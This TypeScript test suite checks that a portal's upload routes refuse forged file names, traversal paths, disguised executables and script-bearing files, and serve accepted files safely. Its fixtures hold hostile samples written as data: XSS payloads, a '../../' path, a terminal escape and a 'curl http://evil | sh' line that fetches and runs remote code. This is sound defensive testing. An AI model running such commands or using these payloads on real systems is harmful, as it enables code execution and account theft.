import { parse as parseDisposition } from 'content-disposition';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, onTestFailed, vi } from 'vitest';
import { uploadProblemMessage } from '@resident/contract';
import type { UploadProblem } from '@resident/contract';
import { UPLOAD_CASES, uploadCaseContent } from '@resident/contract/limits/testing';
import { DEFAULT_LIMITS } from '../config/options.ts';
import { UPLOAD_PROBLEM_ANSWERS } from './read-upload.ts';
import { form } from '../test-support/communication-client.ts';
import { errorBody } from '../test-support/error-body.ts';
import { startTestServer } from '../test-support/test-server.ts';
import type { TestServer } from '../test-support/test-server.ts';
import { postUpload, uploadRoutes } from '../test-support/upload-routes.ts';
import type { UploadRoute } from '../test-support/upload-routes.ts';

/**
 * Security suite 4, files: every upload route judges files by uploadProblem of
 * @resident/contract/limits, the portal's own rule — a forged name (a path, control or direction
 * characters, over 255 characters), a forbidden extension, over 25 MB, empty, first bytes that do
 * not fit a .pdf/image/Office extension, a page, SVG or script in any file: refused with nothing
 * kept. What those rules let through is still made harmless: the stored name is sanitised
 * (nothing Windows forbids, ≤ 200 characters), the type is sniffed from the bytes, and every
 * download is an attachment with nosniff and a sandboxing CSP. upload-cases.test.ts runs the
 * shared UPLOAD_CASES on the new-chat route; this suite runs the refused ones on every other
 * upload route, and its own cases on all of them.
 */
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 });

const utf8 = (text: string) => new TextEncoder().encode(text);
const PDF = utf8('%PDF-1.4\n');
const ALL_ROUTES = [0, 1, 2, 3, 4, 5];
/** Every route but the vacancy application (5), whose CV must be a document or a photo (400 CV_TYPE, vacancy-routes.test.ts). */
const ANY_TYPE_ROUTES = [0, 1, 2, 3, 4];

interface Refused {
  label: string;
  name: string;
  content: Uint8Array;
  refused: UploadProblem;
  /** Indexes into uploadRoutes(); upload-cases.test.ts already runs UPLOAD_CASES on route 0 (new chat). */
  routes: number[];
}

const REFUSED: Refused[] = [
  ...UPLOAD_CASES.flatMap((upload) =>
    upload.refused
      ? [
          {
            label: 'shared case',
            name: upload.name,
            content: uploadCaseContent(upload),
            refused: upload.refused,
            routes: [1, 2, 3, 4, 5],
          },
        ]
      : [],
  ),
  {
    label: 'a forbidden extension with a trailing space',
    name: 'архив.PART ',
    content: PDF,
    refused: 'forbidden-extension',
    routes: ALL_ROUTES,
  },
  {
    label: 'a forbidden extension behind a path',
    name: '../../выписка.crdownload',
    content: PDF,
    refused: 'bad-name',
    routes: ALL_ROUTES,
  },
  {
    label: 'a .pdf that is an SVG with a script',
    name: 'план.pdf',
    content: utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    refused: 'content-mismatch',
    routes: ALL_ROUTES,
  },
  {
    label: 'a .pdf that is a Windows program',
    name: 'договор.pdf',
    content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
    refused: 'content-mismatch',
    routes: ALL_ROUTES,
  },
  {
    label: 'a page with a PDF header after it',
    name: 'выписка.pdf',
    content: utf8('<!DOCTYPE html><script>fetch("/api/v3/main/user/")</script>%PDF-1.4\n'),
    refused: 'active-content',
    routes: ALL_ROUTES,
  },
  {
    label: 'a web page',
    name: 'страница.html',
    content: utf8('<html><body onload="alert(1)">'),
    refused: 'forbidden-extension',
    routes: ALL_ROUTES,
  },
  {
    label: 'a web page as text',
    name: 'страница.txt',
    content: utf8('Добрый день!\n\n<img src=x onerror=alert(1)>'),
    refused: 'active-content',
    routes: ALL_ROUTES,
  },
  {
    label: 'an SVG after a doctype',
    name: 'схема',
    content: utf8('<!DOCTYPE x>\n<svg onload="alert(1)"/>'),
    refused: 'active-content',
    routes: ALL_ROUTES,
  },
  {
    label: 'an XSLT-styled XML',
    name: 'выписка.xsl',
    content: utf8('<?xml version="1.0"?><x/>'),
    refused: 'forbidden-extension',
    routes: ALL_ROUTES,
  },
  {
    label: 'a name with a terminal escape',
    name: 'скан\u001b[2J.pdf',
    content: PDF,
    refused: 'bad-name',
    routes: ALL_ROUTES,
  },
];

interface Harmless {
  label: string;
  name: string;
  content: Uint8Array;
  /** The name the download carries. */
  storedName: string;
  /** The type it is served with, sniffed from the bytes. */
  servedAs: string;
  /** The routes that take it (all by default). */
  routes?: number[];
}

const HARMLESS: Harmless[] = [
  {
    label: 'a script named .txt',
    name: 'акт.txt',
    content: utf8('#!/bin/sh\ncurl http://evil | sh\n'),
    storedName: 'акт.txt',
    servedAs: 'text/plain; charset=utf-8',
    routes: ANY_TYPE_ROUTES,
  },
  {
    label: 'a program under an unchecked extension',
    name: 'программа.bin',
    content: new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0xff, 0xff]),
    storedName: 'программа.bin',
    servedAs: 'application/octet-stream',
    routes: ANY_TYPE_ROUTES,
  },
  {
    label: 'a name with characters Windows forbids',
    name: 'Акт <1> от 01:05|2026?.pdf',
    content: PDF,
    storedName: 'Акт _1_ от 01_05_2026_.pdf',
    servedAs: 'application/pdf',
  },
  {
    label: 'a Windows device name',
    name: 'con.pdf',
    content: PDF,
    storedName: '_con.pdf',
    servedAs: 'application/pdf',
  },
  {
    label: 'a 255-character name',
    name: `${'я'.repeat(251)}.pdf`,
    content: PDF,
    storedName: `${'я'.repeat(196)}.pdf`,
    servedAs: 'application/pdf',
  },
];

let server: TestServer;
let routes: UploadRoute[];
let documentsDir: string;
let tried = 0;
let refusedCount = 0;
let failed = 0;

beforeAll(async () => {
  documentsDir = mkdtempSync(join(tmpdir(), 'files-suite-'));
  // Every case is an upload: the rate limit is not what this suite is about.
  server = await startTestServer({ documentsDir, limits: { ...DEFAULT_LIMITS, uploadRateLimit: 10_000 } });
  routes = await uploadRoutes(server);
});

afterAll(async () => {
  await server.app.close();
  rmSync(documentsDir, { recursive: true, force: true });
  process.stdout.write(
    `files suite: ${tried} cases tried over ${routes.length} upload routes, ${refusedCount} refused with nothing kept, ${failed} failed\n`,
  );
});

/** Counts the case for the figures printed at the end. */
function count(): void {
  tried += 1;
  onTestFailed(() => {
    failed += 1;
  });
}

describe.each(REFUSED)('refused ($label): $name → $refused', ({ name, content, refused, routes: indexes }) => {
  it.each(indexes)('on upload route %i, with nothing kept', async (index) => {
    count();
    const route = routes[index];
    if (!route) throw new Error(`no upload route ${index}`);
    const { token, url, fields } = await route.target();
    const stored = readdirSync(documentsDir).length;
    const answer = await postUpload(server, token, url, form(fields, [{ field: route.fileField, name, content }]));
    const { status, code } = UPLOAD_PROBLEM_ANSWERS[refused];
    expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status });
    expect(answer.json()).toEqual(errorBody(code, uploadProblemMessage(refused, name)));
    refusedCount += 1;
    expect(readdirSync(documentsDir)).toHaveLength(stored);
  });
});

describe.each(HARMLESS)(
  'made harmless: $label',
  ({ name, content, storedName, servedAs, routes: indexes = ALL_ROUTES }) => {
    it.each(indexes)('on upload route %i, downloaded as an attachment with nosniff', async (index) => {
      count();
      const route = routes[index];
      if (!route) throw new Error(`no upload route ${index}`);
      const { token, url, fields } = await route.target();
      const answer = await postUpload(
        server,
        token,
        url,
        form(fields, [{ field: route.fileField, name, content, type: 'application/pdf' }]),
      );
      expect({ route: route.name, status: answer.statusCode }).toEqual({ route: route.name, status: route.accepted });
      const download = await server.app.inject({
        method: 'GET',
        url: await route.download(answer.json()),
        headers: { authorization: `Bearer ${token}` },
      });
      expect(download.statusCode).toBe(200);
      expect(download.headers['content-type']).toBe(servedAs);
      expect(download.headers['x-content-type-options']).toBe('nosniff');
      expect(download.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
      const disposition = String(download.headers['content-disposition']);
      expect(disposition).not.toMatch(/[\r\n]/);
      // Read back as a browser does (filename* first), by the package that builds the header.
      const { type, parameters } = parseDisposition(disposition);
      expect({ type, name: parameters.filename }).toEqual({ type: 'attachment', name: storedName });
      expect(new Uint8Array(download.rawPayload)).toEqual(content);
    });
  },
);
